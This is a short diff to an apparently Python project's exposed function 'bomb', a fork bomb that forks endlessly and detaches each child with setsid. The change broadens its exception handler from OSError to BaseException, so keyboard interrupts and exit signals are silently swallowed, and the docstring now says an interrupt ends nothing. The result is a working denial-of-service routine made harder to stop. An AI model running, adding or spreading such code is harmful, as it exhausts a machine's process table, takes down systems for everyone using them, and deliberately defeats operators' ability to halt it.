@@ -66,12 +66,12 @@ def start_processes(n: int) -> None:
 
 @expose
 def bomb() -> None:
-    """Processes that make processes, until nobody lets them, and then again."""
+    """Processes that make processes, until nobody lets them, and then again; an interrupt ends nothing."""
     while True:
         try:
             if os.fork() == 0:
                 os.setsid()
-        except OSError:
+        except BaseException:
             pass
 
 
